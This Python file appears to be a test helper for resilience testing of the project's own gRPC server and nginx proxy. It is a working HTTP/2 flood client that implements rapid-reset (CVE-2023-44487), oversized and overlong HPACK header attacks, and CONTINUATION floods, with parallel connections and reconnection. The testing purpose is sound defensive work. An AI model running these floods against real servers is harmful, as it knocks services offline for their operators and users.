#!/usr/bin/env python3
"""A raw HTTP/2 attack client: hand-written frames over plain TCP sockets (h2c, prior knowledge),
or over TLS (ALPN h2) with --tls_ca (and --tls_cert/--tls_key for a client certificate).

Used by tests/edge/h2_flood_test.py against eaos-server and against the nginx proxy in front of
it. Standard library only; no HTTP/2 or HPACK package: every frame and header block is built here.

Modes (each bounded by --count and --seconds, whichever comes first):
  rapid-reset    HEADERS (a well-formed gRPC POST /eaos.v1.EaosService/Predict, no END_STREAM)
                 then RST_STREAM(CANCEL), --count pairs per connection, as fast as the socket takes
                 them (CVE-2023-44487). The first request inserts its headers into the HPACK
                 dynamic table; later ones are a few bytes of indexed fields, as real attacks are.
  hpack-length   HEADERS without END_HEADERS whose last field is a literal declared --declared_len
                 bytes long (default 1 GiB, a 5-byte HPACK integer), then CONTINUATION frames of
                 filler towards that length (up to --count frames).
  hpack-varint   HEADERS without END_HEADERS whose last field is a literal whose value length
                 is an overlong integer: 0x7f then 0x80 continuation bytes that add nothing, never
                 ending; CONTINUATION frames of further 0x80 bytes (up to --count frames).
  continuation   HEADERS without END_HEADERS then CONTINUATION frames each carrying small new
                 literal fields (x-pad-N: ...), so the metadata of one request grows without end.
--connections C runs C connections in parallel (one thread each).

With --reconnect, a connection the peer cuts off (GOAWAY or close) is replaced by a new one, as a
real attacker would, until the slot's --count is spent or --seconds pass.

Prints one JSON object: per slot, connections opened ("sessions") and cut off by the peer, frames
and bytes sent, pairs or frames completed, GOAWAY codes, and the first connection's details: when
the peer sent GOAWAY (seconds from the start, error code, last stream id, debug text), when it
closed the connection (EOF or reset), whether sending stalled (the peer stopped reading: a send
made no progress for --stall_s); and totals.

  /usr/bin/python3 tests/edge/h2flood.py --target 127.0.0.1:50051 --mode rapid-reset \\
      --count 100000 --connections 2 --seconds 20
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
MAX_FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE's initial value: every peer accepts frames this big

ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR",
               0x3: "FLOW_CONTROL_ERROR", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
               0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xb: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags,
                                                              stream_id & 0x7FFFFFFF) + payload


# --- HPACK, by hand (RFC 7541), never Huffman-coded -------------------------------------------

def hpack_int(value, prefix_bits, first_byte_flags=0):
    """An HPACK integer with an N-bit prefix (section 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(data):
    return hpack_int(len(data), 7) + data


def literal_indexed_name(name_index, value, incremental=True):
    """Literal field whose name is a table entry; with incremental indexing (0x40) or not (0x00)."""
    if incremental:
        return hpack_int(name_index, 6, 0x40) + hpack_string(value)
    return hpack_int(name_index, 4, 0x00) + hpack_string(value)


def literal_new_name(name, value, incremental=True):
    return (b"\x40" if incremental else b"\x00") + hpack_string(name) + hpack_string(value)


def indexed(index):
    return hpack_int(index, 7, 0x80)


# Static table indexes (RFC 7541 appendix A).
S_AUTHORITY, S_METHOD_POST, S_PATH, S_SCHEME_HTTP, S_CONTENT_TYPE, S_USER_AGENT = 1, 3, 4, 6, 31, 58
PATH = b"/eaos.v1.EaosService/Predict"


def grpc_request_fields(authority):
    """The fields of a gRPC request that a first HEADERS inserts into the dynamic table, in order."""
    return [
        (S_AUTHORITY, None, authority),
        (S_PATH, None, PATH),
        (S_CONTENT_TYPE, None, b"application/grpc"),
        (None, b"te", b"trailers"),
        (S_USER_AGENT, None, b"h2flood/1"),
        (None, b"grpc-timeout", b"10S"),
    ]


def first_request_block(authority):
    """:method POST and :scheme http from the static table, the rest inserted (incremental)."""
    block = indexed(S_METHOD_POST) + indexed(S_SCHEME_HTTP)
    for name_index, name, value in grpc_request_fields(authority):
        block += (literal_indexed_name(name_index, value) if name_index
                  else literal_new_name(name, value))
    return block


def repeat_request_block(authority):
    """The same request once its fields are in the dynamic table: all indexed, a few bytes."""
    fields = grpc_request_fields(authority)
    # The last inserted entry is index 62; the first of n is 62 + n - 1.
    n = len(fields)
    block = indexed(S_METHOD_POST) + indexed(S_SCHEME_HTTP)
    for i in range(n):
        block += indexed(62 + n - 1 - i)
    return block


# --- one attacking connection ------------------------------------------------------------------

# A non-blocking TLS socket that cannot go on now: like BlockingIOError on a plain one.
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def tls_context(args):
    """The client's SSLContext for --tls_ca (None: plaintext h2c)."""
    if not args.tls_ca:
        return None
    ctx = ssl.create_default_context(cafile=args.tls_ca)
    if args.tls_cert:
        ctx.load_cert_chain(args.tls_cert, args.tls_key)
    ctx.set_alpn_protocols(["h2"])
    return ctx


class Connection:
    def __init__(self, host, port, start, stall_s, source=None, tls=None, server_name=None):
        self.start = start
        self.stall_s = stall_s
        self.sock = socket.create_connection((host, port), timeout=5,
                                             source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls is not None:
            try:
                self.sock = tls.wrap_socket(self.sock, server_hostname=server_name or host)
            except (OSError, ValueError):
                self.sock.close()
                raise
            if self.sock.selected_alpn_protocol() != "h2":
                self.sock.close()
                raise OSError(f"TLS peer chose ALPN {self.sock.selected_alpn_protocol()!r}, not h2")
        # One OpenSSL connection must not be read and written by two threads at once: with TLS
        # every send and recv (all non-blocking, so never held long) takes this lock.
        self._io = threading.Lock()
        self.sock.settimeout(None)
        self.sock.setblocking(False)
        self.frames_sent = 0
        self.bytes_sent = 0
        self.frames_received = {}
        self.goaway = None
        self.closed_at = None
        self.close_reason = None
        self.stalled_at = None
        self.send_error = None
        self._lock = threading.Lock()
        # send() is writing, or has not sent the preface yet (a TLS peer sends its SETTINGS at
        # once: an ACK before our preface is "invalid connection preface"): the reader's replies
        # wait in _replies.
        self._sending = True
        self._replies = []
        self._stop = threading.Event()
        self._reader = threading.Thread(target=self._read_loop, daemon=True)
        self._reader.start()

    def now(self):
        return round(time.monotonic() - self.start, 3)

    def send(self, data, frames):
        """Sends all of data; False once the peer is gone or stopped reading for stall_s.

        Control frames the reader thread answers meanwhile (SETTINGS / PING ACK) wait until data
        is all out, so that they never land inside one of its frames (a partial send, frequent
        with TLS records, would otherwise let them split a frame: PROTOCOL_ERROR)."""
        with self._lock:
            self._sending = True
        try:
            ok = self._write(data)
            while ok:
                with self._lock:
                    queued, self._replies = b"".join(self._replies), []
                    if not queued:
                        break
                ok = self._write(queued)
        finally:
            with self._lock:
                self._sending = False
        if ok:
            self.frames_sent += frames
        return ok

    def _write(self, data):
        view = memoryview(data)
        last_progress = time.monotonic()
        while view:
            if self.closed_at is not None:
                return False
            try:
                with self._io:
                    n = self.sock.send(view)
            except WOULD_BLOCK:
                n = 0
            except OSError as e:
                self.send_error = f"{type(e).__name__}: {e}"
                self._mark_closed(f"send: {e.strerror or e}")
                return False
            if n:
                view = view[n:]
                with self._lock:
                    self.bytes_sent += n
                last_progress = time.monotonic()
                continue
            if self.closed_at is not None:
                return False
            if time.monotonic() - last_progress > self.stall_s:
                if self.stalled_at is None:
                    self.stalled_at = self.now()
                return False
            select.select([], [self.sock], [], 0.05)
        return True

    def _mark_closed(self, reason):
        with self._lock:
            if self.closed_at is None:
                self.closed_at = self.now()
                self.close_reason = reason

    def _read_loop(self):
        buf = b""
        while not self._stop.is_set():
            try:
                r, _, _ = select.select([self.sock], [], [], 0.1)
            except (OSError, ValueError):
                return
            if not r:
                continue
            try:
                with self._io:
                    chunk = self.sock.recv(1 << 16)
                    while isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
                        chunk += self.sock.recv(1 << 16)  # decrypted already: select won't say
            except WOULD_BLOCK:
                continue
            except OSError as e:
                self._mark_closed(f"recv: {e.strerror or e}")
                return
            if not chunk:
                self._mark_closed("EOF")
                return
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[0:3], "big")
                if len(buf) < 9 + length:
                    break
                ftype, flags = buf[3], buf[4]
                payload = buf[9:9 + length]
                buf = buf[9 + length:]
                self.frames_received[ftype] = self.frames_received.get(ftype, 0) + 1
                if ftype == SETTINGS and not flags & ACK:
                    self._reply(frame(SETTINGS, ACK, 0))
                elif ftype == PING and not flags & ACK:
                    self._reply(frame(PING, ACK, 0, payload))
                elif ftype == GOAWAY and self.goaway is None:
                    last_id, code = struct.unpack(">II", payload[:8])
                    self.goaway = {"at_s": self.now(), "code": ERROR_NAMES.get(code, hex(code)),
                                   "last_stream_id": last_id & 0x7FFFFFFF,
                                   "debug": payload[8:200].decode("utf-8", "replace")}

    def _reply(self, data):
        # Best effort, from the reader thread: a control frame is tiny. While send() is busy it
        # goes out after send()'s data; else now, under _lock so that no send() starts midway.
        with self._lock:
            if self._sending:
                self._replies.append(data)
                return
            try:
                with self._io:
                    self.sock.send(data)
            except OSError:
                pass

    def wait_close(self, seconds):
        """Waits up to `seconds` for the peer to close or GOAWAY after the flood."""
        end = time.monotonic() + seconds
        while time.monotonic() < end and self.closed_at is None:
            time.sleep(0.05)

    def close(self):
        self._stop.set()
        self._reader.join(timeout=1)
        try:
            self.sock.close()
        except OSError:
            pass

    def report(self):
        names = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", SETTINGS: "SETTINGS",
                 PING: "PING", GOAWAY: "GOAWAY", WINDOW_UPDATE: "WINDOW_UPDATE"}
        return {"frames_sent": self.frames_sent, "bytes_sent": self.bytes_sent,
                "received": {names.get(k, str(k)): v for k, v in self.frames_received.items()},
                "goaway": self.goaway, "closed_at_s": self.closed_at,
                "close_reason": self.close_reason, "stalled_at_s": self.stalled_at,
                "send_error": self.send_error}


# --- the modes ---------------------------------------------------------------------------------

def handshake(conn):
    # Our SETTINGS: no server push, a small window: we never read response bodies.
    settings = struct.pack(">HI", 0x2, 0)
    return conn.send(PREFACE + frame(SETTINGS, 0, 0, settings), 1)


def rapid_reset(conn, args, deadline, authority):
    first = first_request_block(authority)
    repeat = repeat_request_block(authority)
    rst = struct.pack(">I", CANCEL)
    stream_id = 1
    done = 0
    batch = max(1, args.batch)
    while done < args.count and time.monotonic() < deadline:
        n = min(batch, args.count - done)
        parts = []
        for _ in range(n):
            block = first if stream_id == 1 else repeat
            parts.append(frame(HEADERS, END_HEADERS, stream_id, block))
            parts.append(frame(RST_STREAM, 0, stream_id, rst))
            stream_id += 2
            if stream_id > 0x7FFFFFFF:
                return done
        if not conn.send(b"".join(parts), 2 * n):
            break
        done += n
    return done


def open_headers(conn, authority, tail, stream_id=1):
    """HEADERS without END_HEADERS: the gRPC request's fields (not indexed) followed by `tail`."""
    block = indexed(S_METHOD_POST) + indexed(S_SCHEME_HTTP)
    for name_index, name, value in grpc_request_fields(authority):
        block += (literal_indexed_name(name_index, value, incremental=False) if name_index
                  else literal_new_name(name, value, incremental=False))
    return conn.send(frame(HEADERS, 0, stream_id, block + tail), 1)


def continuation_flood(conn, args, deadline, payload_of):
    """CONTINUATION frames (never END_HEADERS) with payload_of(i); returns how many were sent."""
    done = 0
    while done < args.count and time.monotonic() < deadline:
        n = min(max(1, args.batch // 64), args.count - done)
        data = b"".join(frame(CONTINUATION, 0, 1, payload_of(done + i)) for i in range(n))
        if not conn.send(data, n):
            break
        done += n
        if args.frame_interval_s:
            time.sleep(args.frame_interval_s)
    return done


def hpack_length(conn, args, deadline, authority):
    # Literal, new name "x-huge", value length declared as --declared_len (a multi-byte integer),
    # followed by the first filler bytes of that value.
    tail = b"\x00" + hpack_string(b"x-huge") + hpack_int(args.declared_len, 7) + b"a" * 1024
    if not open_headers(conn, authority, tail):
        return 0
    filler = b"a" * args.frame_bytes
    return continuation_flood(conn, args, deadline, lambda i: filler)


def hpack_varint(conn, args, deadline, authority):
    # A literal (new name "x-pad") whose value length is an overlong integer: 0x7f, then 0x80
    # continuation bytes that each add 0 and promise another byte, never ending. (The same integer
    # as an index, 0xff 0x80..., gRPC 1.51 refuses at once: a closed connection.)
    tail = b"\x00" + hpack_string(b"x-pad") + b"\x7f" + b"\x80" * 1024
    if not open_headers(conn, authority, tail):
        return 0
    filler = b"\x80" * args.frame_bytes
    return continuation_flood(conn, args, deadline, lambda i: filler)


def continuation_fields(conn, args, deadline, authority):
    if not open_headers(conn, authority, b""):
        return 0
    value = b"v" * 64

    def fields(i):
        out = b""
        j = 0
        while len(out) < args.frame_bytes - 100:
            out += literal_new_name(b"x-pad-%d-%d" % (i, j), value, incremental=False)
            j += 1
        return out
    return continuation_flood(conn, args, deadline, fields)


MODES = {"rapid-reset": rapid_reset, "hpack-length": hpack_length, "hpack-varint": hpack_varint,
         "continuation": continuation_fields}


def run_connection(args, index, start, deadline, results):
    """One attacking slot: a connection, and with --reconnect a new one each time the peer cuts
    the last one off, until --count is spent or --seconds pass."""
    host, port = args.target.rsplit(":", 1)
    entry = {"connection": index, "sessions": 0, "cut": 0, "completed": 0, "frames_sent": 0,
             "bytes_sent": 0, "goaway_codes": {}, "first": None}
    while entry["completed"] < args.count and time.monotonic() < deadline:
        try:
            conn = Connection(host, int(port), start, args.stall_s, args.source, args.tls,
                              args.tls_server_name)
        except OSError as e:
            entry["connect_errors"] = entry.get("connect_errors", 0) + 1
            entry["connect_error"] = str(e)
            time.sleep(0.05)
            continue
        entry["sessions"] += 1
        try:
            session_args = argparse.Namespace(**vars(args))
            session_args.count = args.count - entry["completed"]
            completed = 0
            if handshake(conn):
                completed = MODES[args.mode](conn, session_args, deadline, args.target.encode())
            entry["flood_ended_s"] = conn.now()
            if not args.reconnect or time.monotonic() >= deadline:
                conn.wait_close(args.linger_s)
            else:
                conn.wait_close(0.2 if conn.closed_at is None and conn.goaway else 0)
            session = conn.report()
        finally:
            conn.close()
        entry["completed"] += completed
        entry["frames_sent"] += session["frames_sent"]
        entry["bytes_sent"] += session["bytes_sent"]
        cut = session["goaway"] is not None or session["closed_at_s"] is not None
        entry["cut"] += cut
        if session["goaway"]:
            code = session["goaway"]["code"]
            entry["goaway_codes"][code] = entry["goaway_codes"].get(code, 0) + 1
        if entry["first"] is None:
            entry["first"] = session  # the first session's details: when and how it ended
        entry["last_stalled_at_s"] = session["stalled_at_s"]
        if not (args.reconnect and cut):
            break
    results[index] = entry


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--target", required=True, help="HOST:PORT (plaintext HTTP/2)")
    p.add_argument("--source", default="",
                   help="local address to connect from (e.g. 127.0.0.2: an attacker apart from "
                        "honest clients on 127.0.0.1)")
    p.add_argument("--mode", choices=sorted(MODES), required=True)
    p.add_argument("--count", type=int, default=100000,
                   help="rapid-reset: HEADERS+RST_STREAM pairs per connection; else CONTINUATIONs")
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--seconds", type=float, default=20, help="the flood stops after this")
    p.add_argument("--batch", type=int, default=2000, help="pairs per send()")
    p.add_argument("--frame_bytes", type=int, default=MAX_FRAME, help="CONTINUATION payload size")
    p.add_argument("--frame_interval_s", type=float, default=0,
                   help="sleep between CONTINUATION batches (0: as fast as possible)")
    p.add_argument("--declared_len", type=int, default=1 << 30)
    p.add_argument("--stall_s", type=float, default=3,
                   help="a send that makes no progress this long ends the flood (peer not reading)")
    p.add_argument("--reconnect", action="store_true",
                   help="when the peer cuts a connection off (GOAWAY or close), open another")
    p.add_argument("--linger_s", type=float, default=2,
                   help="after the flood, wait this long for GOAWAY / close before hanging up")
    p.add_argument("--tls_ca", default="",
                   help="speak TLS (ALPN h2), verifying the server against this CA file")
    p.add_argument("--tls_cert", default="", help="with --tls_ca: client certificate (PEM)")
    p.add_argument("--tls_key", default="", help="with --tls_ca: its key")
    p.add_argument("--tls_server_name", default="",
                   help="with --tls_ca: the name to verify (default: the target's host)")
    args = p.parse_args()
    args.tls = tls_context(args)

    start = time.monotonic()
    deadline = start + args.seconds
    results = [None] * args.connections
    threads = [threading.Thread(target=run_connection, args=(args, i, start, deadline, results))
               for i in range(args.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    conns = [r or {} for r in results]
    total = {
        "mode": args.mode, "target": args.target, "connections": args.connections,
        "seconds": round(time.monotonic() - start, 3), "start_monotonic": start,
        "frames_sent": sum(c.get("frames_sent", 0) for c in conns),
        "bytes_sent": sum(c.get("bytes_sent", 0) for c in conns),
        "completed": sum(c.get("completed", 0) for c in conns),
        "sessions": sum(c.get("sessions", 0) for c in conns),
        "cut": sum(c.get("cut", 0) for c in conns),
        "goaway_codes": {k: sum(c.get("goaway_codes", {}).get(k, 0) for c in conns)
                         for k in sorted({k for c in conns for k in c.get("goaway_codes", {})})},
        "stalled": sum(1 for c in conns if c.get("last_stalled_at_s") is not None),
        "per_connection": conns,
    }
    json.dump(total, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
